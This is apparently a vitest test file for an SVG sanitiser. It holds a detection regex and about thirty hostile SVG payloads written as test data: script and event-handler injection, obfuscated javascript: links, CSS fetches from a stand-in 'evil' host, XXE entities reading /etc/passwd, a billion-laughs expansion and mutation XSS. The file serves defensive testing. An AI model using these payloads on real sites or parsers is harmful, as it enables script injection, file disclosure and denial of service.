import { describe, expect, it } from "vitest";
import { purifySvg } from "./purify-svg.ts";

const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" width="10" height="10"${attributes}>${inside}<rect width="4" height="4" fill="#f00"/></svg>`;

/** Matches markup that makes a browser run code or fetch data, in any spelling that could survive the sanitiser. */
const harm =
  /script|\son\w+\s*=|https?:\/\/(?!www\.w3\.org)|\/\/evil|data:|foreignObject|<image|<use|<a[\s>]|<animate|<set|import|ENTITY|DOCTYPE|<\?|\\/i;

describe("makes hostile pictures harmless, or refuses them", () => {
  it.each([
    ["a script", svg("<script>alert(1)</script>")],
    ["a script from elsewhere", svg(`<script xlink:href="http://evil/x.js"/>`)],
    ["a script in another namespace", svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`)],
    ["onload", svg("", ` onload="alert(1)"`)],
    ["onclick with capitals", svg(`<rect oNcLiCk="alert(1)" width="1" height="1"/>`)],
    ["a javascript link", svg(`<a href="javascript:alert(1)"><rect width="9" height="9"/></a>`)],
    ["a javascript xlink", svg(`<a xlink:href="java&#x09;script:alert(1)"><text y="9">x</text></a>`)],
    [
      "foreignObject",
      svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil/"/></body></foreignObject>`,
      ),
    ],
    ["a picture from elsewhere", svg(`<image href="http://evil/pixel.png" width="1" height="1"/>`)],
    ["a picture inside a picture", svg(`<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>`)],
    ["a filter's picture", svg(`<filter id="f"><feImage href="http://evil/x.png"/></filter>`)],
    ["use from elsewhere", svg(`<use href="http://evil/x.svg#a"/>`)],
    ["use of data", svg(`<use xlink:href="data:image/svg+xml,x#a"/>`)],
    ["CSS import", svg(`<style>@import "http://evil/x.css";</style>`)],
    ["CSS import, escaped", svg(String.raw`<style>@\69mport "//evil/x.css";</style>`)],
    ["CSS address", svg(`<style>rect{fill:url(http://evil/x)}</style>`)],
    ["CSS address without a scheme", svg(`<style>rect{background:url('//evil/x')}</style>`)],
    ["CSS address, escaped", svg(String.raw`<style>rect{fill:u\72l(//evil/x)}</style>`)],
    ["CSS in CDATA", svg(`<style><![CDATA[@import url(//evil/x);]]></style>`)],
    ["a style attribute", svg(`<rect style="fill:url(//evil/x)" width="1" height="1"/>`)],
    ["a fill from elsewhere", svg(`<rect fill="url(http://evil/x.svg#p)" width="1" height="1"/>`)],
    ["another base", svg(`<linearGradient id="g" href="#x"/>`, ` xml:base="//evil/"`)],
    [
      "an animated link",
      svg(`<a id="l"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>`),
    ],
    ["a set handler", svg(`<rect width="1" height="1"><set attributeName="onclick" to="alert(1)"/></rect>`)],
    ["a style sheet before the root", `<?xml-stylesheet href="http://evil/x.css"?>${svg("")}`],
    ["a comment that looks like a script", svg("<!-- <script>alert(1)</script> -->")],
    ["an entity", `<!DOCTYPE svg [<!ENTITY x "y">]>${svg("<text>&x;</text>")}`],
    ["a file's entity", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`],
    ["a document type from elsewhere", `<!DOCTYPE svg SYSTEM "http://evil/x.dtd">${svg("")}`],
    [
      "a billion laughs",
      `<!DOCTYPE svg [<!ENTITY a "ha">${"bcdefghij".replaceAll(/./g, (name) => `<!ENTITY ${name} "${`&${String.fromCharCode(name.charCodeAt(0) - 1)};`.repeat(10)}">`)}]>${svg("<text>&j;</text>")}`,
    ],
    ["mutation", svg(`<style><g title="</style><img src=x onerror=alert(1)>"/></style>`)],
    [
      "mutation by HTML names",
      svg(
        `<desc><p xmlns="http://www.w3.org/1999/xhtml"><style><!--</style><img src="x" onerror="alert(1)"/></p></desc>`,
      ),
    ],
  ])("%s", (_rule, text) => {
    const clean = purifySvg(text);
    if (clean !== null) {
      expect(clean).not.toMatch(harm);
      expect(clean).toContain('<rect width="4" height="4" fill="#f00"/>');
    }
  });
});

it.each([
  ["no SVG at all", "<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'/></html>"],
  ["another namespace", "<svg><script>alert(1)</script></svg>"],
  ["not well-formed", `<svg xmlns="http://www.w3.org/2000/svg"><g></svg>`],
  ["two roots", svg("") + svg("")],
  ["text behind the root", `${svg("")}<script>alert(1)</script>`],
])("refuses: %s", (_rule, text) => {
  expect(purifySvg(text)).toBeNull();
});
